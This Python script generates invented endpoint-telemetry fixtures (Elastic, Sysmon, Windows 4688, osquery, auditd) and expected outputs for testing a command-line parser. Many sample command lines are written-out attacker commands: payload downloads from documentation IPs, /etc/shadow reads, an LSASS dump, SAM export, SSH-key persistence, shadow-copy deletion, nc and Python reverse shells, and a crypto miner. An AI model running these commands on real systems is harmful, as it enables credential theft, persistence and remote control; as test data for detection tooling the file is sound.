#!/usr/bin/env python3
"""Telemetry fixtures: realistic process-creation events, each built around a plain command line written here.

Run from this folder with Python 3 (standard library only):  python3 make_fixtures.py
For every NAME it writes NAME (the telemetry, as the source emits it) and NAME.expected.jsonl: one object per record
the reader must produce, in order, with the command line put into the event (or the error it must report) and the
identity fields it must carry. The encodings are done here independently of the C# reader:
  - ECS process.args are joined with Python's shlex.join (the reader's ShellJoin claims to be exactly that);
  - auditd follows the kernel (kernel/auditsc.c audit_log_execve_info, audit_log_proctitle; kernel/audit.c
    audit_string_contains_control): an argument or proctitle holding '"', a byte < 0x21 or > 0x7e is upper-case hex,
    otherwise double-quoted; proctitle is argv joined by NUL and cut at 128 bytes (MAX_PROCTITLE_AUDIT_LEN); an
    EXECVE record holds about 7,500 chars (MAX_EXECVE_AUDIT_LEN) and an argument that does not fit is split into
    aN_len=LEN aN[0]=… aN[1]=… chunks across records.
The events are invented (documentation addresses 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24; example.* hosts).
"""
import base64
import json
import shlex

GS = "\x1d"  # auditd ENRICHED format: interpreted fields follow a group separator


def dump(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def write(name, lines, expected):
    with open(name, "w", encoding="utf-8", newline="\n") as f:
        for line in lines:
            f.write(line + "\n")
    with open(name + ".expected.jsonl", "w", encoding="utf-8", newline="\n") as f:
        for e in expected:
            f.write(dump(e) + "\n")


def expect(line, command=None, error=None, truncated=False, **ids):
    e = {"line": line, "command": command, "error": error, "truncated": truncated}
    e.update(ids)
    return e


# ---------------------------------------------------------------- ECS (Elastic Endpoint, Auditbeat)

def ecs():
    lines, exp = [], []
    # Elastic Endpoint, Linux process start.
    cmd = "curl -fsSL http://203.0.113.45:8080/stage2.sh -o /tmp/.X11-unix/.s"
    lines.append(dump({
        "@timestamp": "2024-03-14T09:21:07.412Z",
        "agent": {"type": "endpoint", "version": "8.12.2", "id": "0c1f7a52-6b8e-4a7e-9d21-5f0b7c3e9a11"},
        "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"},
        "ecs": {"version": "8.10.0"},
        "event": {"id": "NDkxMzA2NTc0MjE1MzE0OTI4", "kind": "event", "category": ["process"], "type": ["start"],
                  "action": "exec", "dataset": "endpoint.events.process", "module": "endpoint",
                  "created": "2024-03-14T09:21:07.412Z", "sequence": 88213},
        "host": {"name": "web-01", "hostname": "web-01", "id": "4c9a8f2e1b7d4e6f8a3c5d7e9f1a2b3c",
                 "os": {"type": "linux", "family": "ubuntu", "kernel": "5.15.0-97-generic"}},
        "process": {"pid": 48213, "entity_id": "YjQxZTcyNjEtNDgyMTMtMTcxMDQwODA2Ny40MTI=", "name": "curl",
                    "executable": "/usr/bin/curl", "working_directory": "/var/www/html",
                    "args": shlex.split(cmd), "args_count": 6, "command_line": cmd,
                    "parent": {"pid": 48190, "name": "sh", "executable": "/usr/bin/dash", "args": ["sh", "-c", cmd]},
                    "hash": {"sha256": "a1b4c8e9f0d2c6b7a3e5f9d1c2b4a6e8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0"}},
        "user": {"name": "www-data", "id": "33", "group": {"name": "www-data", "id": "33"}},
    }))
    exp.append(expect(1, cmd, eventId="NDkxMzA2NTc0MjE1MzE0OTI4", host="web-01", user="www-data",
                      timestamp="2024-03-14T09:21:07.412Z", processId="48213", parentProcessId="48190",
                      executable="/usr/bin/curl", workingDirectory="/var/www/html", userId="33"))
    # Elastic Endpoint, Windows process start.
    cmd = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -WindowStyle Hidden '
           '-EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA')
    lines.append(dump({
        "@timestamp": "2024-03-14T09:24:51.090Z",
        "agent": {"type": "endpoint", "version": "8.12.2"},
        "event": {"id": "NDkxMzA2NTc0MjE1MzE1MDEx", "kind": "event", "category": ["process"], "type": ["start"],
                  "action": "start", "module": "endpoint"},
        "host": {"name": "ws-fin-07", "os": {"type": "windows", "name": "Windows 10 Enterprise"}},
        "process": {"pid": 7312, "name": "powershell.exe",
                    "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "working_directory": "C:\\Users\\alice\\Downloads\\",
                    "args": ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-NoProfile",
                             "-WindowStyle", "Hidden", "-EncodedCommand",
                             "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"],
                    "command_line": cmd,
                    "parent": {"pid": 5528, "name": "WINWORD.EXE"}},
        "user": {"name": "alice", "domain": "CORP", "id": "S-1-5-21-3623811015-3361044348-30300820-1013"},
    }))
    exp.append(expect(2, cmd, eventId="NDkxMzA2NTc0MjE1MzE1MDEx", host="ws-fin-07", user="alice",
                      timestamp="2024-03-14T09:24:51.090Z", processId="7312", parentProcessId="5528",
                      executable="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      workingDirectory="C:\\Users\\alice\\Downloads\\",
                      userId="S-1-5-21-3623811015-3361044348-30300820-1013"))
    # Auditbeat auditd module: process.args and process.title, no command_line.
    for line_no, argv, seq in ((3, ["bash", "-c", "cat /etc/shadow > /dev/shm/.sh"], 1871),
                               (4, ["sh", "-c", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOp7 kali' >> /root/.ssh/authorized_keys"], 1874)):
        lines.append(dump({
            "@timestamp": "2024-03-14T09:30:12.553Z",
            "agent": {"type": "auditbeat", "version": "8.12.2"},
            "auditd": {"sequence": seq, "result": "success", "session": "4",
                       "summary": {"actor": {"primary": "alice", "secondary": "root"}, "how": argv[0],
                                   "object": {"type": "file", "primary": "/usr/bin/" + argv[0]}}},
            "event": {"module": "auditd", "category": ["process"], "type": ["start"], "action": "executed",
                      "outcome": "success"},
            "host": {"name": "db-02"},
            "process": {"pid": 30111 + seq, "ppid": 30001, "parent": {"pid": 30001}, "name": argv[0],
                        "executable": "/usr/bin/" + argv[0], "working_directory": "/root", "args": argv,
                        "title": " ".join(argv)[:128]},
            "user": {"name": "root", "id": "0", "audit": {"id": "1000", "name": "alice"}},
        }))
        exp.append(expect(line_no, shlex.join(argv), host="db-02", user="root", timestamp="2024-03-14T09:30:12.553Z",
                          processId=str(30111 + seq), parentProcessId="30001", executable="/usr/bin/" + argv[0],
                          workingDirectory="/root", userId="0", auditUserId="1000"))
    # Dotted keys, as Elasticsearch keeps a document's _source when it was sent flat.
    cmd = "nohup /tmp/.cache/kworker -c /tmp/.cache/config.json"
    lines.append(dump({"@timestamp": "2024-03-14T09:41:00.000Z", "event.id": "flat-0001", "host.name": "web-01",
                       "user.name": "www-data", "process.pid": 51077, "process.command_line": cmd}))
    exp.append(expect(5, cmd, eventId="flat-0001", host="web-01", user="www-data", timestamp="2024-03-14T09:41:00.000Z",
                      processId="51077"))
    write("ecs-process.ndjson", lines, exp)


# ---------------------------------------------------------------- Windows: Sysmon and 4688

SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"


def sysmon_event_data(cmd, image, pid, ppid, parent_image, parent_cmd, user, utc, cwd):
    return {
        "RuleName": "-", "UtcTime": utc, "ProcessGuid": "{8d3f4c2a-9e11-65f2-3a04-000000001b00}",
        "ProcessId": str(pid), "Image": image, "FileVersion": "10.0.19041.3636 (WinBuild.160101.0800)",
        "Description": "Windows host process (Rundll32)", "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation", "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
        "CommandLine": cmd, "CurrentDirectory": cwd, "User": user,
        "LogonGuid": "{8d3f4c2a-8c02-65f2-d1a3-0b0000000000}", "LogonId": "0xba3d1", "TerminalSessionId": "1",
        "IntegrityLevel": "High", "Hashes": "SHA256=0C3A0F2B8B1E6B4F9B7D1A0C2E4F6A8B0C2D4E6F8A0B2C4D6E8F0A2B4C6D8E0F",
        "ParentProcessGuid": "{8d3f4c2a-9d80-65f2-2f04-000000001b00}", "ParentProcessId": str(ppid),
        "ParentImage": parent_image, "ParentCommandLine": parent_cmd, "ParentUser": user,
    }


def winlogbeat(event_id, provider, channel, record_id, computer, event_data, timestamp, extra_event):
    return {
        "@timestamp": timestamp,
        "agent": {"type": "winlogbeat", "version": "8.12.2", "name": computer.split(".")[0]},
        "ecs": {"version": "8.0.0"},
        "event": dict({"code": str(event_id), "kind": "event", "provider": provider, "created": timestamp}, **extra_event),
        "host": {"name": computer.split(".")[0].lower()},
        "log": {"level": "information"},
        "message": "Process Create:",
        "winlog": {"channel": channel, "computer_name": computer, "event_id": str(event_id),
                   "provider_name": provider, "record_id": record_id, "process": {"pid": 3184, "thread": {"id": 4120}},
                   "api": "wineventlog", "event_data": event_data, "task": "Process Create (rule: ProcessCreate)",
                   "opcode": "Info", "version": 5, "user": {"identifier": "S-1-5-18", "domain": "NT AUTHORITY",
                                                            "name": "SYSTEM", "type": "User"}},
    }


def sysmon():
    lines, exp = [], []
    computer = "WS-FIN-07.corp.example"
    cases = [
        ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full",
         "C:\\Windows\\System32\\rundll32.exe", 6044, 7312, 48213, "2024-03-14 09:25:30.118"),
        ("certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe",
         "C:\\Windows\\System32\\certutil.exe", 6180, 7312, 48220, "2024-03-14 09:25:41.903"),
    ]
    for i, (cmd, image, pid, ppid, record, utc) in enumerate(cases, 1):
        data = sysmon_event_data(cmd, image, pid, ppid, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                 "powershell.exe -NoProfile", "CORP\\alice", utc, "C:\\Users\\alice\\")
        lines.append(dump(winlogbeat(1, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", record,
                                     computer, data, utc.replace(" ", "T") + "Z",
                                     {"module": "sysmon", "category": ["process"], "type": ["start"]})))
        exp.append(expect(i, cmd, eventId=str(record), host=computer, user="CORP\\alice", timestamp=utc,
                          processId=str(pid), parentProcessId=str(ppid), executable=image,
                          workingDirectory="C:\\Users\\alice\\"))
    # A network connection (event ID 3) in the same stream: an error record, not a silent skip.
    lines.append(dump(winlogbeat(3, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 48221, computer,
                                 {"RuleName": "-", "UtcTime": "2024-03-14 09:25:42.310", "ProcessId": "6180",
                                  "Image": "C:\\Windows\\System32\\certutil.exe", "User": "CORP\\alice",
                                  "Protocol": "tcp", "Initiated": "true", "DestinationIp": "198.51.100.7",
                                  "DestinationPort": "80"},
                                 "2024-03-14T09:25:42.310Z", {"module": "sysmon", "category": ["network"]})))
    exp.append(expect(3, error="Sysmon event ID 3 is not process creation (event ID 1).", eventId="48221", host=computer,
                      user="CORP\\alice", timestamp="2024-03-14 09:25:42.310", processId="6180",
                      executable="C:\\Windows\\System32\\certutil.exe"))
    write("sysmon-winlogbeat.ndjson", lines, exp)

    # Exported events rendered to JSON: xmltodict (attributes as @Name, text as #text) with the Event wrapper, the
    # bare EventData of the same, and evtx_dump's name → value map.
    lines, exp = [], []
    cmd = ('"C:\\Windows\\system32\\schtasks.exe" /create /sc minute /mo 15 /tn "OneDrive Standalone Update" '
           '/tr "C:\\Users\\Public\\upd.exe" /f')
    data = sysmon_event_data(cmd, "C:\\Windows\\System32\\schtasks.exe", 2216, 6044, "C:\\Windows\\System32\\cmd.exe",
                             "cmd.exe /c schtasks", "CORP\\alice", "2024-03-14 09:26:53.123", "C:\\Windows\\system32\\")
    lines.append(dump({"Event": {
        "@xmlns": "http://schemas.microsoft.com/win/2004/08/events/event",
        "System": {"Provider": {"@Name": "Microsoft-Windows-Sysmon", "@Guid": SYSMON_GUID}, "EventID": "1",
                   "Version": "5", "Level": "4", "Task": "1", "Opcode": "0", "Keywords": "0x8000000000000000",
                   "TimeCreated": {"@SystemTime": "2024-03-14T09:26:53.1234567Z"}, "EventRecordID": "90211",
                   "Correlation": None, "Execution": {"@ProcessID": "3184", "@ThreadID": "4120"},
                   "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": computer,
                   "Security": {"@UserID": "S-1-5-18"}},
        "EventData": {"Data": [{"@Name": k, "#text": v} for k, v in data.items()]}}}))
    exp.append(expect(1, cmd, eventId="90211", host=computer, user="CORP\\alice", timestamp="2024-03-14 09:26:53.123",
                      processId="2216", parentProcessId="6044", executable="C:\\Windows\\System32\\schtasks.exe",
                      workingDirectory="C:\\Windows\\system32\\"))
    cmd = "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save"
    lines.append(dump({"EventData": {"Data": [{"@Name": "RuleName"}, {"@Name": "CommandLine", "#text": cmd},
                                              {"@Name": "User", "#text": "CORP\\alice"}]}}))
    exp.append(expect(2, cmd, user="CORP\\alice"))
    cmd = 'wmic.exe process call create "powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"'
    data = sysmon_event_data(cmd, "C:\\Windows\\System32\\wbem\\WMIC.exe", 4460, 6044, "C:\\Windows\\System32\\cmd.exe",
                             "cmd.exe", "CORP\\alice", "2024-03-14 09:27:10.500", "C:\\Users\\alice\\")
    lines.append(dump({"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": SYSMON_GUID}},
                   "EventID": 1, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0,
                   "TimeCreated": {"#attributes": {"SystemTime": "2024-03-14T09:27:10.500211Z"}},
                   "EventRecordID": 90230, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": computer},
        "EventData": data}}))
    exp.append(expect(3, cmd, eventId="90230", host=computer, user="CORP\\alice", timestamp="2024-03-14 09:27:10.500",
                      processId="4460", parentProcessId="6044", executable="C:\\Windows\\System32\\wbem\\WMIC.exe",
                      workingDirectory="C:\\Users\\alice\\"))
    write("sysmon-export.ndjson", lines, exp)


def win4688():
    lines, exp = [], []
    computer = "DC-01.corp.example"

    def data(cmd, image, new_pid, creator_pid):
        d = {"SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1013", "SubjectUserName": "alice",
             "SubjectDomainName": "CORP", "SubjectLogonId": "0xba3d1", "NewProcessId": new_pid, "NewProcessName": image,
             "TokenElevationType": "%%1937", "ProcessId": creator_pid, "TargetUserSid": "S-1-0-0",
             "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
             "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "MandatoryLabel": "S-1-16-12288"}
        if cmd is not None:
            d["CommandLine"] = cmd
        return d

    cases = [("net.exe user svc_backup P@ssw0rd!2024 /add /domain", "C:\\Windows\\System32\\net.exe", "0x1a2c", 771104),
             ("vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\vssadmin.exe", "0x1b40", 771131),
             (None, "C:\\Windows\\System32\\whoami.exe", "0x1c08", 771140)]
    for i, (cmd, image, new_pid, record) in enumerate(cases, 1):
        ts = f"2024-03-14T10:0{i}:17.{i}04Z"
        lines.append(dump(winlogbeat(4688, "Microsoft-Windows-Security-Auditing", "Security", record, computer,
                                     data(cmd, image, new_pid, "0x12f4"), ts,
                                     {"category": ["process"], "type": ["start"], "action": "created-process",
                                      "outcome": "success"})))
        exp.append(expect(i, cmd if cmd is not None else image, eventId=str(record), host=computer, user="CORP\\alice",
                          timestamp=ts, processId=new_pid, parentProcessId="0x12f4", executable=image))
    write("win4688-winlogbeat.ndjson", lines, exp)


# ---------------------------------------------------------------- osquery

def osquery():
    def row(pid, parent, path, cmdline, uid, auid, cwd, time):
        return {"pid": str(pid), "parent": str(parent), "path": path, "cmdline": cmdline, "cmdline_size": str(len(cmdline)),
                "cwd": cwd, "uid": str(uid), "auid": str(auid), "euid": str(uid), "gid": str(uid), "egid": str(uid),
                "owner_uid": "0", "owner_gid": "0", "mode": "0100755", "overflows": "", "env_count": "12",
                "env_size": "640", "time": str(time), "uptime": "1284001", "status": "0"}

    def envelope(name, counter, unix, **body):
        return dict({"name": name, "hostIdentifier": "web-01.example.net",
                     "calendarTime": "Thu Mar 14 09:3%d:00 2024 UTC" % (counter % 10), "unixTime": unix, "epoch": 0,
                     "counter": counter, "numerics": False,
                     "decorations": {"host_uuid": "4C4C4544-0042-3610-8052-B4C04F4E3732", "username": "root"}}, **body)

    lines, exp = [], []
    r = row(51230, 51201, "/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.45 4444", 33, 4294967295, "/var/www/html",
            1710408640)
    lines.append(dump(envelope("pack_incident_process_events", 41, 1710408641, columns=r, action="added")))
    exp.append(expect(1, r["cmdline"], host="web-01.example.net", timestamp="1710408640", processId="51230",
                      parentProcessId="51201", executable=r["path"], workingDirectory="/var/www/html", userId="33",
                      auditUserId="4294967295"))
    r = row(51244, 51230, "/usr/bin/python3.10", "python3 -c import pty;pty.spawn(\"/bin/bash\")", 33, 4294967295,
            "/var/www/html", 1710408652)
    lines.append(dump(envelope("pack_incident_process_events", 42, 1710408653, columns=r, action="added")))
    exp.append(expect(2, r["cmdline"], host="web-01.example.net", timestamp="1710408652", processId="51244",
                      parentProcessId="51230", executable=r["path"], workingDirectory="/var/www/html", userId="33",
                      auditUserId="4294967295"))
    # processes (differential): a removed row is a process that ended — no record.
    r = row(51230, 51201, "/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.45 4444", 33, 4294967295, "/var/www/html", 0)
    del r["time"]
    lines.append(dump(envelope("processes", 43, 1710408700, columns=r, action="removed")))
    write("osquery-process-events.ndjson", lines, exp)

    lines, exp = [], []
    added = [row(51302, 1, "/usr/bin/crontab", "crontab /tmp/.c", 33, 4294967295, "/tmp", 0),
             row(51340, 1, "/tmp/.x/xmrig", "/tmp/.x/xmrig -o pool.example.net:3333 -u 4AdUndXHHZ9pfQj27iMAjAbbq -p x --donate-level 1",
                 33, 4294967295, "/tmp/.x", 0)]
    for a in added:
        del a["time"]
    removed = [row(51244, 51230, "/usr/bin/python3.10", "python3 -c import pty;pty.spawn(\"/bin/bash\")", 33, 4294967295,
                   "/var/www/html", 0)]
    lines.append(dump(envelope("processes", 44, 1710409000, diffResults={"added": added, "removed": removed})))
    for a in added:
        exp.append(expect(1, a["cmdline"], host="web-01.example.net", timestamp="1710409000", processId=a["pid"],
                          parentProcessId="1", executable=a["path"], workingDirectory=a["cwd"], userId="33",
                          auditUserId="4294967295"))
    # A batch with only removed rows gives no record.
    lines.append(dump(envelope("processes", 45, 1710409060, diffResults={"added": [], "removed": added[:1]})))
    snap = [row(812, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", 0, 4294967295, "/", 0),
            row(51340, 1, "/tmp/.x/xmrig", added[1]["cmdline"], 33, 4294967295, "/tmp/.x", 0)]
    for s in snap:
        del s["time"]
    lines.append(dump(envelope("processes_snapshot", 46, 1710409200, snapshot=snap, action="snapshot")))
    for s in snap:
        exp.append(expect(3, s["cmdline"], host="web-01.example.net", timestamp="1710409200", processId=s["pid"],
                          parentProcessId="1", executable=s["path"], workingDirectory=s["cwd"], userId=s["uid"],
                          auditUserId="4294967295"))
    write("osquery-processes-batch.ndjson", lines, exp)


# ---------------------------------------------------------------- auditd

MAX_EXECVE_AUDIT_LEN = 7500
MAX_PROCTITLE_AUDIT_LEN = 128


def needs_hex(b):
    return any(c == 0x22 or c < 0x21 or c > 0x7E for c in b)


def untrusted(b):
    return b.hex().upper() if needs_hex(b) else '"' + b.decode("ascii") + '"'


def execve_records(argv):
    """EXECVE record bodies for argv, packed and split as audit_log_execve_info does (simplified record accounting)."""
    records, body = [], "argc=%d" % len(argv)
    for n, arg in enumerate(argv):
        b = arg.encode()
        hexed = needs_hex(b)
        enc = b.hex().upper() if hexed else '"' + arg + '"'
        room = MAX_EXECVE_AUDIT_LEN - len(body)
        if len(enc) + 64 <= room:
            body += " a%d=%s" % (n, enc)
            continue
        # Split: a%d_len on the first chunk, then as many bytes as fit in each record.
        chunk, pos, first = 0, 0, True
        while pos < len(b):
            room = MAX_EXECVE_AUDIT_LEN - len(body) - 64
            if room < 64:
                records.append(body)
                body, room = "", MAX_EXECVE_AUDIT_LEN - 64
            take = room // 2 if hexed else room - 2
            part = b[pos:pos + take]
            pos += len(part)
            head = (" a%d_len=%d" % (n, len(b)) if first else "") + " a%d[%d]=" % (n, chunk)
            body += head + (part.hex().upper() if hexed else '"' + part.decode("ascii") + '"')
            first, chunk = False, chunk + 1
    records.append(body)
    return [r.lstrip(" ") for r in records]


def proctitle(argv):
    return untrusted(b"\0".join(a.encode() for a in argv)[:MAX_PROCTITLE_AUDIT_LEN])


def auditd():
    node = "web-01"
    out, exp = [], []

    def rec(type_, stamp, body):
        out.append("node=%s type=%s msg=audit(%s): %s" % (node, type_, stamp, body))
        return len(out)

    def syscall(stamp, pid, ppid, uid, auid, ses, tty, comm, exe, syscall_nr=59, name="execve", items=2, user="root",
                auser="alice"):
        return rec("SYSCALL", stamp,
                   "arch=c000003e syscall=%d success=yes exit=0 a0=55d7e0c1a2b0 a1=55d7e0c1b4f0 a2=55d7e0c1c120 a3=8 "
                   "items=%d ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d "
                   "tty=%s ses=%d comm=%s exe=%s subj=unconfined key=\"exec\"%sARCH=x86_64 SYSCALL=%s AUID=\"%s\" "
                   "UID=\"%s\" GID=\"%s\" EUID=\"%s\" SUID=\"%s\" FSUID=\"%s\" EGID=\"%s\" SGID=\"%s\" FSGID=\"%s\""
                   % (syscall_nr, items, ppid, pid, auid, uid, uid, uid, uid, uid, uid, uid, uid, tty, ses,
                      untrusted(comm.encode()), untrusted(exe.encode()), GS, name, auser, user, user, user, user, user,
                      user, user, user))

    def path(stamp, item, name):
        rec("PATH", stamp, "item=%d name=%s inode=1835263 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
                           "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0" % (item, untrusted(name.encode())))

    def ids(stamp, pid, ppid, uid, auid, ses, tty, exe, cwd, user):
        return dict(eventId=stamp, auditSerial=stamp.split(":")[1], timestamp=stamp.split(":")[0], host=node,
                    processId=str(pid), parentProcessId=str(ppid), userId=str(uid), user=user, auditUserId=str(auid),
                    session=str(ses), terminal=tty, executable=exe, workingDirectory=cwd)

    rev = ["python3", "-c",
           'import socket,os,pty;s=socket.socket();s.connect(("10.10.14.23",4444));'
           '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")']
    blob = base64.b64encode(bytes((i * 7919 + 13) % 256 for i in range(6000))).decode()
    split = ["bash", "-c", "echo %s | base64 -d > /dev/shm/.k && chmod +x /dev/shm/.k && /dev/shm/.k" % blob]
    spaced = ["find", "/home/alice/My Documents", "-name", "*.kdbx", "-exec", "cp", "{}", "/tmp/.out/", ";"]

    # userspace records of a login: not part of any command event
    rec("USER_LOGIN", "1710408412.950:2000",
        "pid=30001 uid=0 auid=1000 ses=4 subj=unconfined msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=192.0.2.10 "
        "addr=192.0.2.10 terminal=/dev/pts/0 res=success'%sUID=\"root\" AUID=\"alice\" ID=\"alice\"" % GS)
    # A: `id`, interleaved with B; its EOE arrives after B has begun
    a = "1710408413.221:2001"
    b = "1710408413.229:2002"
    first_a = syscall(a, 30120, 30001, 0, 1000, 4, "pts0", "id", "/usr/bin/id")
    for body in execve_records(["id"]):
        rec("EXECVE", a, body)
    first_b = syscall(b, 30121, 30001, 0, 1000, 4, "pts0", "python3", "/usr/bin/python3.10")
    rec("CWD", a, "cwd=\"/root\"")
    for body in execve_records(rev):
        rec("EXECVE", b, body)
    path(a, 0, "/usr/bin/id")
    rec("CWD", b, "cwd=%s" % untrusted(b"/root/tools"))
    path(b, 0, "/usr/bin/python3")
    path(b, 1, "/lib64/ld-linux-x86-64.so.2")
    rec("PROCTITLE", a, "proctitle=%s" % proctitle(["id"]))
    rec("EOE", a, "")
    rec("PROCTITLE", b, "proctitle=%s" % proctitle(rev))
    rec("EOE", b, "")
    exp.append(expect(first_a, "id", **ids(a, 30120, 30001, 0, 1000, 4, "pts0", "/usr/bin/id", "/root", "root")))
    exp.append(expect(first_b, " ".join(rev), **ids(b, 30121, 30001, 0, 1000, 4, "pts0", "/usr/bin/python3.10",
                                                    "/root/tools", "root")))
    # C: the reverse shell's connect(): no EXECVE, so its (cut) PROCTITLE is the command
    c = "1710408413.305:2003"
    first_c = syscall(c, 30121, 30001, 0, 1000, 4, "pts0", "python3", "/usr/bin/python3.10", syscall_nr=42,
                      name="connect", items=0)
    rec("SOCKADDR", c, "saddr=02001142C0000217000000000000000000")
    rec("PROCTITLE", c, "proctitle=%s" % proctitle(rev))
    rec("EOE", c, "")
    cut = b"\0".join(x.encode() for x in rev)[:MAX_PROCTITLE_AUDIT_LEN].replace(b"\0", b" ").decode()
    exp.append(expect(first_c, cut, truncated=True,
                      **dict(ids(c, 30121, 30001, 0, 1000, 4, "pts0", "/usr/bin/python3.10", None, "root"))))
    # D: a long argument split into a2_len / a2[i] chunks over several EXECVE records, and E (hex arguments with
    # spaces) interleaved with it; a sudo USER_CMD and a CONFIG_CHANGE in between give no record
    d = "1710408420.010:2004"
    e = "1710408420.011:2005"
    first_d = syscall(d, 30150, 30121, 0, 1000, 4, "pts1", "bash", "/usr/bin/bash")
    d_records = execve_records(split)
    assert len(d_records) >= 2 and "a2_len=" in d_records[0] and "a2[1]=" in d_records[1], d_records
    rec("EXECVE", d, d_records[0])
    first_e = syscall(e, 30151, 30001, 1000, 1000, 4, "pts0", "find", "/usr/bin/find", user="alice")
    for body in d_records[1:]:
        rec("EXECVE", d, body)
    rec("USER_CMD", "1710408420.012:2006",
        "pid=30152 uid=1000 auid=1000 ses=4 subj=unconfined msg='cwd=\"/home/alice\" cmd=6C73202D6C61 "
        "exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")
    for body in execve_records(spaced):
        rec("EXECVE", e, body)
    rec("CWD", d, "cwd=\"/dev/shm\"")
    rec("CWD", e, "cwd=%s" % untrusted("/home/alice/My Documents".encode()))
    rec("CONFIG_CHANGE", "1710408420.013:2007", "auid=1000 ses=4 subj=unconfined op=add_rule key=\"exec\" list=4 res=1")
    rec("PROCTITLE", e, "proctitle=%s" % proctitle(spaced))
    rec("PROCTITLE", d, "proctitle=%s" % proctitle(split))
    rec("EOE", e, "")
    rec("EOE", d, "")
    exp.append(expect(first_d, " ".join(split), **ids(d, 30150, 30121, 0, 1000, 4, "pts1", "/usr/bin/bash", "/dev/shm",
                                                      "root")))
    exp.append(expect(first_e, " ".join(spaced), **ids(e, 30151, 30001, 1000, 1000, 4, "pts0", "/usr/bin/find",
                                                       "/home/alice/My Documents", "alice")))
    # F: a watched file read on a pre-3.17 kernel (no PROCTITLE) and no EXECVE: no command, no record
    f = "1710408421.500:2008"
    syscall(f, 30160, 30001, 0, 1000, 4, "pts0", "cat", "/usr/bin/cat", syscall_nr=257, name="openat", items=1)
    rec("CWD", f, "cwd=\"/root\"")
    path(f, 0, "/etc/shadow")
    rec("EOE", f, "")
    write("audit.log", out, exp)


if __name__ == "__main__":
    ecs()
    sysmon()
    win4688()
    osquery()
    auditd()
